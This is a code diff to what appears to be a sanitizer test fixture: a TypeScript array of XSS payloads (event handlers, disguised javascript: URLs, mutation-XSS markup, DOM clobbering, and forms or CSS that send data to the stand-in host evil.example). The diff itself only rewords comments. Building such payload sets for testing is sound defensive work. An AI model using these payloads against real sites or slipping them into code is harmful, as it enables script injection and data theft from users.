@@ -2,8 +2,8 @@ const run = "alert(1)";
 const evil = "https://evil.example";
 
 /**
- * Markup that tries to run `alert(1)`, to send something to `evil.example`, or to take over a part of the page: one
- * sample of each technique in the collections of DOMPurify and OWASP.
+ * Markup that tries to run `alert(1)`, to send data to `evil.example`, or to replace a part of the
+ * page: one sample for each technique in the collections of DOMPurify and OWASP.
  */
 export const payloads: readonly string[] = [
   // Event handlers, in HTML, SVG and broken tags.
@@ -16,7 +16,7 @@ export const payloads: readonly string[] = [
   `<a title='"><img src=x onerror=${run}>'>x</a>`,
   `&lt;img src=x onerror=${run}&gt;`,
   `"><img src=x onerror=${run}>`,
-  // Addresses that run, in disguises that parsers take off.
+  // URLs that run scripts, disguised by characters that parsers remove.
   `<a href="java&Tab;script&colon;${run}">x</a>`,
   `<a href="\u0001javascript:${run}">x</a>`,
   `<a href="/\\evil.example/x">x</a>`,
@@ -24,7 +24,7 @@ export const payloads: readonly string[] = [
   `<object data="data:text/html,<script>${run}</script>"></object>`,
   `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
   `<base href="${evil}/">`,
-  // Markup that means another thing when it is parsed a second time.
+  // Markup that changes its meaning when it is parsed again.
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
   `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
   `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
@@ -32,12 +32,12 @@ export const payloads: readonly string[] = [
   `<template><img src=x onerror=${run}><script>${run}</script></template>`,
   `<!--><img src=x onerror=${run}>-->`,
   `</script></style></textarea></title></template><img src=x onerror=${run}>`,
-  // Styles, names and forms that cover, replace or send something.
+  // Styles, names and forms that cover, replace or send content.
   `<style>@import '${evil}/x.css'; body{background:url(${evil}/x.png)}</style>`,
   `<p style="position:fixed;inset:0;z-index:9999" class="button" hidden>x</p>`,
   `<form id="scheme" name="getElementById" action="${evil}"><input name="attributes"></form>`,
   `<button form="scheme" formaction="${evil}">x</button>`,
   `<img name="body" id="scheme" src="${evil}/beacon" srcset="${evil}/beacon 2x" alt="">`,
-  // As deep as a text may be.
+  // Nested as deeply as a text may be.
   `${"<b>".repeat(95)}<img src=x onerror=${run}>${"</b>".repeat(95)}`,
 ];
